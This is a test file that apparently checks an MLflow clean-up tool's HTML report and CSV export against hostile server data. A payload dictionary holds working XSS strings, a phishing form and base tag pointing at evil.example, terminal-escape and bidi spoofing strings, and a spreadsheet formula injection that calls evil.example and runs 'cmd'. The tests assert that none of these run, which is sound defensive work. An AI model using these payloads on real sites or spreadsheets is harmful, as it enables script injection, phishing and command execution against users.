"""Whatever a server sent is shown, and nothing of it is run, followed or believed."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect
from support.viewer import count, opened
from unit.worlds import OLD, a_model, a_run, a_version, an_experiment, inventory

from mlflow_gc.domain.entities import ServerInfo
from mlflow_gc.domain.timestamps import now_ms
from mlflow_gc.plan.builder import build_plan
from mlflow_gc.retention.engine import decide
from mlflow_gc.retention.policy import Policy
from mlflow_gc.retention.rules import Rule

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import Browser, Page

PAYLOADS = {
    "script": "<script>window.pwned='script'</script>",
    "end of script": "</script><script>window.pwned='end'</script><!--<script>",
    "end of style": "</style><script>window.pwned='style'</script>",
    "end of title": "</title></textarea></noscript><img src=x onerror=\"window.pwned='title'\">",
    "image": "<img src=x onerror=window.pwned='image'>",
    "svg": "<svg onload=window.pwned='svg'><animate onbegin=window.pwned='svg'>",
    "frame": "<iframe srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
    "out of an attribute": '" autofocus onfocus="window.pwned=\'attribute\'" x="',
    "out of the other quotes": "' onmouseover='window.pwned=1' x='",
    "script address": "javascript:window.pwned='address'",
    "data address": "data:text/html,<script>opener.pwned='data'</script>",
    "template": "${window.pwned='template'} {{constructor.constructor('window.pwned=1')()}}",
    "json": '"}],"kind":[],"x":"\\u003cscript\\u003e\\',
    "reference": "&lt;script&gt;window.pwned='reference'&lt;/script&gt; &#x202e;",
    "ansi": "\x1b[2J\x1b]8;;http://evil.example\x1b\\link\x07 \x9b31m",
    "bidi": "report-\u202egnp.exe\u2066\u200b\ufeff",
    "lines": "one\r\ntwo\u2028three\u2029four\x00five\x85",
    "formula": '=HYPERLINK("http://evil.example","open")+cmd|\'/C calc\'!A0',
    "another formula": "\t@SUM(1+1)",
    "prototype": "__proto__",
    "form": '<form action="http://evil.example"><input name=x><button>Sign in</button></form>',
    "base": '<base href="http://evil.example/"><meta http-equiv=refresh content="0;http://evil">',
    "long": "x" * 100_000,
    "wide": "many words " * 9_000,
}


def hostile_plan(server: ServerInfo) -> dict[str, Any]:
    """Each payload as a name, an id, an owner, a model, a tag, a description, an alias, a reason."""
    as_of = now_ms() - 3_600_000
    found: list[Any] = []
    for number, text in enumerate(PAYLOADS.values()):
        own = f"9{number}"
        retained = f"8{number}"
        found += [
            an_experiment(own, name=text),
            an_experiment(retained, name=text, tags={"mlflow_gc.keep": text}),
            a_run(f"{number:032x}", run_name=text, user_id=text, experiment_id=own),
            a_run(
                f"id {text[:300]}",
                run_name="hostile id",
                experiment_id=own,
                # Not where the version says that it lies: that would protect it.
                artifact_uri=f"{text}?",
            ),
            a_run(f"{number:031x}k", run_name=text, experiment_id=retained),
            a_model(text, aliases={"3": (text,)}),
            a_version(
                "1",
                text,
                description=text,
                source=text,
                tags={text: text},
                last_updated_timestamp=OLD,
            ),
            a_version("2", text),
            a_version("3", text),
        ]
    policy = Policy(as_of_ms=as_of, default=Rule.of_days(30))
    inventory_ = inventory(*found)
    plan = build_plan(inventory_, decide(inventory_, policy), policy, server)
    for number, text in enumerate(PAYLOADS.values()):
        plan["runs"][number]["reasons"].append(text)
        plan["runs"][number]["another"] = {text: [text, {text: 2**70}]}
    plan["diagnostics"] = [{"code": "odd", "message": text} for text in PAYLOADS.values()]
    return plan


SERVERS = {
    "web": ServerInfo("http://mlflow/", "http://mlflow/", "3.17.2", None, "x"),
    "script": replace(
        ServerInfo("javascript:window.pwned=1//", "JaVaScRiPt:window.pwned=1", "", "", "x"),
        workspace=PAYLOADS["end of script"],
        mlflow_version=PAYLOADS["image"],
    ),
    "odd hosts": ServerInfo(
        'http://mlflow\u2024example.com@evil.example/"><script>window.pwned=1</script>',
        "https://xn--\u0131evil.example#javascript:window.pwned=1",
        *("3", 'a&b="><script>window.pwned=1</script>', "<script>window.pwned=1</script>"),
    ),
}


@pytest.fixture(scope="module")
def hostile(written: Callable[..., Path]) -> Path:
    """The report of a hostile server."""
    return written(hostile_plan(SERVERS["web"]), "hostile", file_name=PAYLOADS["image"])


def walk_through(page: Page) -> None:
    """Look at everything: all pages, the details of many entities, all filters, the charts."""
    for details in page.locator("main details").all():
        details.locator("summary").first.click()
    for link in page.locator("table.bars a, .tile a, svg.ages a").all():
        link.click()
        assert count(page) >= 1
    page.get_by_role("button", name="Clear filters").click()
    page.get_by_label("Search").fill(PAYLOADS["image"])
    page.get_by_role("button", name="Clear filters").click()
    for column in page.locator("button[data-sort]").all():
        column.click()
    while True:
        page.locator("button.open").first.click()
        for _ in range(20):
            page.locator("#details-next:enabled, #details-close").first.click()
        page.keyboard.press("Escape")
        following = page.get_by_role("button", name="Next", exact=True)
        if not following.is_visible() or following.is_disabled():
            break
        following.click()
    page.evaluate("document.querySelectorAll('*').forEach(e => e.focus?.())")
    page.wait_for_timeout(300)


def assert_untouched(page: Page) -> None:
    """No code ran, no element of theirs is there, every address leads to the server."""
    assert page.evaluate("typeof window.pwned") == "undefined"
    foreign = "img, iframe, object, embed, link, base, form[action], svg script, svg animate"
    assert page.locator(foreign).count() == 0
    assert page.locator("script").count() == 5
    assert page.locator("style").count() == 1
    assert page.locator("meta").count() == 5
    assert page.evaluate(
        """[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])
           .filter(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc')
           .length"""
    ) == 0  # fmt: skip
    addresses = page.evaluate("[...document.links].map(a => a.getAttribute('href'))")
    strange = [a for a in addresses if not a.startswith(("#", "http://mlflow/#/"))]
    assert not strange
    seen = page.evaluate("document.body.innerText")
    for char in "\x1b\x07\x9b\x00\x85\u202e\u2066\u200b\ufeff\u2028\u2029":
        assert char not in seen, f"U+{ord(char):04X} is shown as it is"


@pytest.mark.smoke
def test_nothing_of_it_is_run(browser: Browser, hostile: Path) -> None:
    with opened(browser, hostile) as page:
        walk_through(page)
        assert_untouched(page)


def test_nothing_is_run_where_the_policy_does_not_count_either(
    browser: Browser, hostile: Path
) -> None:
    """Escaping is enough: the policy of the page is a second wall, not the only one."""
    with opened(browser, hostile, bypass_csp=True) as page:
        walk_through(page)
        assert_untouched(page)


@pytest.mark.parametrize("server", ["script", "odd hosts"])
def test_an_address_that_is_no_web_page_is_no_link(
    browser: Browser, written: Callable[..., Path], server: str
) -> None:
    """Neither in the head of the page, nor in the table, nor in the details."""
    path = written(hostile_plan(SERVERS[server]), server.replace(" ", "-"))
    with opened(browser, path) as page:
        page.locator("button.open").first.click()
        assert_untouched(page)
        assert page.locator("a:not([href^='#'])").count() == 0
    with opened(browser, path, java_script_enabled=False) as page:
        assert page.locator("a:not([href^='#'])").count() == 0


def test_nothing_is_run_without_our_scripts(browser: Browser, hostile: Path) -> None:
    with opened(browser, hostile, java_script_enabled=False) as page:
        assert page.locator("img, iframe, form:not(#filters), svg script").count() == 0
        assert page.locator("script").count() == 5
        expect(page.get_by_text(PAYLOADS["image"]).first).to_be_visible()


@pytest.mark.parametrize("width", [1280, 390])
def test_all_of_it_is_shown_and_the_layout_holds(
    browser: Browser, written: Callable[..., Path], width: int
) -> None:
    """Names of 100,000 characters included; ids are whole."""
    plan = hostile_plan(SERVERS["web"])
    with opened(browser, written(plan, "layout"), width=width) as page:
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
        beyond = page.evaluate(
            """[...document.querySelectorAll('td .badge')].filter(badge =>
                   badge.getBoundingClientRect().right
                   > badge.closest('td').getBoundingClientRect().right).length"""
        )
        assert beyond == 0, "what happens to an entity covers its name"
        page.get_by_label("Search").fill("hostile id end")
        page.get_by_label("What happens").select_option("deleted")
        words = page.locator("table.entities").inner_text()
        assert "id </script><script>window.pwned='end'</script><!--<script>" in words
        tallest = page.evaluate(
            """Math.max(...[...document.querySelectorAll('table.entities tr')]
               .map(row => row.getBoundingClientRect().height))"""
        )
        assert tallest < 700
        page.get_by_role("button", name="Clear filters").click()
        for text, seen in (
            (PAYLOADS["bidi"], "report-\\u202egnp.exe\\u2066\\u200b\\ufeff"),
            (PAYLOADS["json"], PAYLOADS["json"]),
            (PAYLOADS["reference"], PAYLOADS["reference"]),
        ):
            page.get_by_label("Search").fill(seen)
            expect(page.locator("#count")).to_contain_text(" of ")
            assert count(page) >= 5, text
        long = next(r for r in plan["runs"] if len(r["run_name"]) == 100_000)
        page.evaluate(f"location.hash = 'open=run:{long['run_id']}'")
        assert PAYLOADS["long"] in page.locator("#details-body").inner_text()
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0


def test_a_spreadsheet_computes_nothing(browser: Browser, written: Callable[..., Path]) -> None:
    with opened(browser, written(hostile_plan(SERVERS["web"]), "formulas")) as page:
        with page.expect_download() as download:
            page.get_by_role("button", name="Download CSV").click()
        content = download.value.path().read_text(encoding="utf-8-sig")
    csv.field_size_limit(1_000_000)
    cells = [cell for line in csv.reader(io.StringIO(content, newline="")) for cell in line]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "|", "%"))]
